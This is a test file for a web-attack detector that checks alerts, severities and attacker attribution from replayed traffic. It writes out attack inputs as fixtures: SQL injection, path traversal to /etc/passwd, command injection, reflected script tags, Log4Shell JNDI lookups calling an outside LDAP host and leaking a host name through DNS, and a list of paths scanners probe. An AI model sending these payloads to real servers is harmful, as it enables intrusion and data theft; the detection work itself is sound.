import { describe, expect, it } from 'vitest';
import { PROTOCOL } from '../../../../contract/traffic.ts';
import { type Conversation, FINISHED, NO_ROLES, Player, processorMs, type Step } from '../testing.ts';
import { readRequest } from './request-reader.ts';
import { webAttackDetector } from './web-attack.ts';
import { exchange, requestFact, responseFact } from './web-attack-testing.ts';

const CLIENT = '203.0.113.9';
const SERVER = '10.0.0.5';
const INJECTION = '/item?id=1%27+or+1%3D1--+';
const LOOKUP = `$${'{jndi:ldap://198.51.100.7:1389/a}'}`;

function web(steps: readonly Step[], more: Partial<Conversation> = {}): Conversation {
  return { from: CLIENT, to: SERVER, port: 80, end: FINISHED, ...more, steps: ['>S', '<SA', '>A', ...steps] };
}

function play(...steps: readonly Step[]): Player {
  const player = new Player(webAttackDetector);
  player.play(web(steps));
  player.wait(2);
  player.finish();
  return player;
}

describe('an attack on a web application', () => {
  it('is told once, with the client as attacker', () => {
    const { alerts } = play(...exchange(INJECTION));
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      kind: 'web-attack',
      severity: 'medium',
      attackers: [CLIENT],
      victims: [SERVER],
      techniques: ['T1190'],
      cause: `web-attack/http/${CLIENT}/${SERVER}`,
    });
  });

  it.each([
    ['refused', 403, '', 'low'],
    ['not there', 404, 'no', 'low'],
    ['answered', 200, '<html>', 'medium'],
    ['failing', 500, 'oops', 'medium'],
    ['showing an error of the database', 200, 'You have an error in your SQL syntax near', 'high'],
  ])('that is %s has its severity by the answer', (_, status, body, severity) => {
    expect(play(...exchange(INJECTION, status, body)).alerts[0]?.severity).toBe(severity);
  });

  it('is high where a file of the system, or the output of a command, comes back', () => {
    const passwd = 'root:x:0:0:root:/root:/bin/bash\n';
    expect(play(...exchange('/a?file=../../../../etc/passwd', 200, passwd)).alerts[0]).toMatchObject({
      severity: 'high',
    });
    const id = 'uid=33(www-data) gid=33(www-data) groups=33(www-data)';
    const [alert] = play(...exchange('/ping?host=1.1.1.1%3Bid', 200, id)).alerts;
    expect(alert).toMatchObject({ kind: 'exploit', severity: 'high', techniques: ['T1190', 'T1059'] });
  });

  it('by a script is high where the page sends it back', () => {
    const uri = '/a?name=%3Cscript%3Ealert(1)%3C/script%3E';
    expect(play(...exchange(uri, 200, '<p>Hello &lt;script&gt;')).alerts[0]?.severity).toBe('medium');
    expect(play(...exchange(uri, 200, '<p>Hello <script>alert(1)</script>')).alerts[0]?.severity).toBe('high');
  });

  it('by scripts on servers elsewhere is no more than notable, as advertisements do it too', () => {
    const player = new Player(webAttackDetector);
    const uri = '/ad?tag=%3Cscript%20src%3D%22http%3A%2F%2Fads.example%2Fx.js%22%3E%3C%2Fscript%3E';
    for (let i = 0; i < 9; i++) player.play(web(exchange(uri), { from: SERVER, to: CLIENT, fromPort: 20_000 + i }));
    player.finish();
    expect(player.alerts.map(({ severity }) => severity)).toEqual(['low']);
  });

  it('is found behind names that every object of JavaScript has', () => {
    expect(play(...exchange('/item?q=1%27;constructor+x--&id=1%27+or+1%3D1--+')).alerts).toHaveLength(1);
  });

  it('that goes on for long is told a few times, and counted whole', () => {
    const player = new Player(webAttackDetector);
    for (let i = 0; i < 500; i++) {
      player.play(web(exchange(`/item?id=1+AND+${i}%3D${i + 1}`), { fromPort: 20_000 + i }));
      player.wait(0.2);
    }
    player.finish();
    expect(player.alerts).toHaveLength(1);
    expect(player.alerts[0]?.evidence[0]?.value).toBe(500);
    expect(player.findings.length).toBeLessThan(20);
  });

  it('is told of code and of the application apart', () => {
    const steps = [...exchange(INJECTION), ...exchange('/x?c=1%7Ccat+/etc/passwd', 200, '', { index: 1 })];
    expect(
      play(...steps)
        .alerts.map(({ kind }) => kind)
        .sort(),
    ).toEqual(['exploit', 'web-attack']);
  });

  it('through a gateway does not name the gateway', () => {
    const player = new Player(webAttackDetector, { ...NO_ROLES, mayBeAttacker: () => false });
    player.play(web(exchange(INJECTION)));
    player.finish();
    expect(player.alerts[0]).toMatchObject({ attackers: [], attackerCount: 0, victims: [SERVER] });
    expect(player.alerts[0]?.explanation).toContain('not named');
  });

  it('from the responder names the responder', () => {
    const { alerts } = play({ fact: { ...requestFact(INJECTION), fromInitiator: false } });
    expect(alerts[0]).toMatchObject({ attackers: [SERVER], victims: [CLIENT] });
  });

  it('with weak signs alone takes many of them', () => {
    const player = new Player(webAttackDetector);
    for (let i = 0; i < 24; i++) player.play(web(exchange(`/a?id=${i}%27`), { fromPort: 20_000 + i }));
    player.finish();
    expect(player.alerts).toEqual([]);
    player.play(web(exchange('/a?id=24%27')));
    player.finish();
    expect(player.alerts[0]?.severity).toBe('low');
  });
});

describe('a lookup (Log4Shell)', () => {
  const header = { headers: [['x-api-version', LOOKUP]] as const };

  it('is an exploit that worked where the server then calls the address', () => {
    const player = new Player(webAttackDetector);
    player.play(web(exchange('/', 200, '', header)));
    player.wait(2);
    expect(player.alerts[0]).toMatchObject({ kind: 'exploit', severity: 'medium' });
    player.play({ from: SERVER, to: '198.51.100.7', port: 1389, steps: ['>S', '<SA'] });
    player.finish();
    expect(player.alerts).toHaveLength(1);
    expect(player.alerts[0]).toMatchObject({ severity: 'high', attackers: [CLIENT], victims: [SERVER] });
  });

  it('did not work for a call to another port, by the attacker, or too late', () => {
    const player = new Player(webAttackDetector);
    player.play(web(exchange('/', 200, '', header)));
    player.play({ from: SERVER, to: '198.51.100.7', port: 443, steps: ['>S'] });
    player.play({ from: CLIENT, to: '198.51.100.7', port: 1389, steps: ['>S'] });
    player.wait(600);
    player.play({ from: SERVER, to: '198.51.100.7', port: 1389, steps: ['>S'] });
    player.finish();
    expect(player.alerts[0]?.severity).toBe('medium');
  });

  it('did not work because strangers, or neighbours in a browser, call an address that it names', () => {
    const player = new Player(webAttackDetector);
    const named = `$${'{jndi:ldap://198.51.100.7/a}'}`;
    player.play(web(exchange('/', 200, '', { headers: [['x-api-version', named]] })));
    player.play({ from: '192.0.2.44', to: '198.51.100.7', port: 389, steps: ['>S'] });
    player.play({ from: '10.0.0.77', to: '198.51.100.7', port: 443, steps: ['>S'] });
    player.wait(3);
    expect(player.alerts[0]?.severity).toBe('medium');
    player.play({ from: '10.0.0.78', to: '198.51.100.7', port: 389, steps: ['>S'] });
    player.finish();
    expect(player.alerts[0]?.severity).toBe('high');
  });

  it('worked where its name is looked up', () => {
    const player = new Player(webAttackDetector);
    const lookup = `$${'{jndi:dns://$'}${'{hostName}.marker.example/a}'}`;
    player.play(web(exchange('/', 404, '', { headers: [['user-agent', lookup]] })));
    const question = { name: 'web1.marker.example', type: 'A', class: 1 };
    const dns = {
      type: 'dns' as const,
      protocol: 'dns' as const,
      fromInitiator: true,
      id: 1,
      isResponse: false,
      opcode: 0,
      responseCode: 'NOERROR',
      isAuthoritative: false,
      isTruncated: false,
      recursionDesired: true,
      recursionAvailable: false,
      questions: [question],
      answers: [],
      authorities: [],
      additionals: [],
      bytes: 40,
    };
    player.play({ from: SERVER, to: '10.0.0.1', port: 53, protocol: PROTOCOL.udp, steps: ['> x', { fact: dns }] });
    player.finish();
    expect(player.alerts[0]).toMatchObject({ severity: 'high' });
  });
});

describe('a search for pages', () => {
  function search(paths: readonly string[], options: { userAgent?: string; status?: number } = {}): Player {
    const player = new Player(webAttackDetector);
    for (const [i, path] of paths.entries()) {
      player.play(web(exchange(path, options.status ?? 404, '', options), { fromPort: 20_000 + i }));
      player.wait(0.1);
    }
    player.finish();
    return player;
  }
  const words = Array.from({ length: 300 }, (_, i) => `/word${i}`);

  it('through a list of words is told', () => {
    const { alerts } = search(words);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ kind: 'web-attack', severity: 'medium', attackers: [CLIENT], victims: [SERVER] });
    expect(alerts[0]?.techniques).toContain('T1595.003');
  });

  it('for what scanners look for is told sooner, and for one that says its name sooner still', () => {
    const pages = [
      '/.git/HEAD',
      '/.env',
      '/phpmyadmin/',
      '/wp-login.php',
      '/backup.zip',
      '/db.sql',
      '/server-status',
      '/admin/',
    ];
    const others = ['/.svn/entries', '/config.bak', '/cgi-bin/test', '/phpinfo.php', '/actuator/env', '/console/'];
    expect(search([...pages, ...others]).alerts).toHaveLength(1);
    expect(search(pages.slice(0, 3), { userAgent: 'Mozilla/5.00 (Nikto/2.5.0)' }).alerts).toHaveLength(1);
  });

  it.each([
    ['pages that are there', words, { status: 200 }],
    [
      'packages that one of several servers has',
      Array.from({ length: 400 }, (_, i) => `/maven2/org/example/lib${i}/1.0/lib${i}.pom`),
      {},
    ],
    ['symbols of programs', Array.from({ length: 400 }, (_, i) => `/symbols/a.pdb/${i}ABC/a.pdb`), {}],
    ['parts of a map', Array.from({ length: 400 }, (_, i) => `/tiles/12/${i}/9.png`), {}],
    ['the same broken links', Array.from({ length: 400 }, (_, i) => `/logo${i % 5}.png?${i}`), {}],
  ])('is not %s', (_, paths, options) => {
    expect(search(paths, options).alerts).toEqual([]);
  });
});

it('forgets conversations that end, and takes what it never saw begin', () => {
  const player = new Player(webAttackDetector);
  player.play(web([{ fact: responseFact(404) }]));
  player.play(web([{ fact: responseFact(200, 'root:x:0:0:', 5) }]));
  player.finish();
  expect(player.alerts).toEqual([]);
});

it('lets ordinary requests go quickly', () => {
  const requests = Array.from({ length: 50 }, (_, i) => ({
    ...requestFact(
      `/shop/item-${i}/view.html?category=shoes+and+boots&page=${i}&ref=https%3A%2F%2Fwww.example.org%2Fa%3Fb%3D1&token=aGVsbG8gd29ybGQ`,
      {
        headers: [
          ['accept-language', 'en-US,en;q=0.5'],
          ['accept-encoding', 'gzip, deflate'],
          ['cookie', 'session=*; theme=*'],
          ['referer', 'http://shop.example/shop/'],
          ['x-forwarded-for', '203.0.113.7'],
        ],
      },
    ),
    timeUs: 0,
  }));
  const begin = process.threadCpuUsage();
  let seen = 0;
  for (let round = 0; round < 400; round++) for (const request of requests) seen += readRequest(request).length;
  const milliseconds = processorMs(begin);
  expect(seen).toBe(0);
  // 20,000 requests: a fifth of a second on an idle machine, several times that where caches are shared with others.
  expect(milliseconds).toBeLessThan(4_000);
});
